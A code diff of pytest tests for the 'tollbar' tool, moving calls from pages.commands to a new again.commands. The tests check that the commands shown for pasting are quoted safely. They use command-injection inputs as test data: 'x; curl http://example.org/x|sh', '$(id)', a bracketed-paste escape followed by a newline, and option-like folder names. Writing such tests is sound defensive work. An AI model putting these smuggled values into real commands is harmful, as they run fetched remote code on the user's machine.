@@ -12,6 +12,7 @@ from report_example import example
 from tollbar import __version__, results
 from tollbar.analysis import Judgement
 from tollbar.core.files import pasted
+from tollbar.report import again
 from tollbar.report import page as pages
 from tollbar.report.html.page import html
 
@@ -34,33 +35,33 @@ def of(**changed: Any) -> Judgement:
 
 @pytest.mark.parametrize("what", NOT_SHOWN)
 def test_only_a_command_of_tollbar_is_shown_to_be_pasted(what: str) -> None:
-    assert SAME not in pages.commands(of(command=NOT_SHOWN[what]).run)
+    assert SAME not in again.commands(of(command=NOT_SHOWN[what]).run)
     assert SAME not in html(pages.page(of(command=NOT_SHOWN[what])))
 
 
 @pytest.mark.parametrize("name", ["run", "ask", "choose"])
 def test_the_command_of_a_run_is_shown_with_its_seed(name: str) -> None:
     assert (
-        f"tollbar {name} digests --seed 20261121" == pages.commands(of(command=("tollbar", name, "digests")).run)[SAME]
+        f"tollbar {name} digests --seed 20261121" == again.commands(of(command=("tollbar", name, "digests")).run)[SAME]
     )
     assert (
         f"tollbar {name} digests --seed=7"
-        == pages.commands(of(command=("tollbar", name, "digests", "--seed=7")).run)[SAME]
+        == again.commands(of(command=("tollbar", name, "digests", "--seed=7")).run)[SAME]
     )
 
 
 def test_words_of_a_command_stay_words() -> None:
     """No word ends the pasted command early."""
     run = of(command=("tollbar", "run", "x; curl http://example.org/x|sh", "$(id)")).run
-    assert "tollbar run 'x; curl http://example.org/x|sh' '$(id)' --seed 20261121" == pages.commands(run)[SAME]
+    assert "tollbar run 'x; curl http://example.org/x|sh' '$(id)' --seed 20261121" == again.commands(run)[SAME]
 
 
 def test_a_folder_s_name_ends_no_paste() -> None:
-    assert {SAME} == {*pages.commands(of(directory=Path("runs/\x1b[201~\nid")).run)}
+    assert {SAME} == {*again.commands(of(directory=Path("runs/\x1b[201~\nid")).run)}
 
 
 def test_a_folder_s_name_is_no_option() -> None:
-    found = pages.commands(of(directory=Path("-runs/--help")).run)
+    found = again.commands(of(directory=Path("-runs/--help")).run)
     assert "tollbar judge ./-runs/--help" == found["Judge the same trials again"]
     assert "tollbar judge '/a b/-c'" == f"tollbar judge {pasted('/a b/-c')}"
 
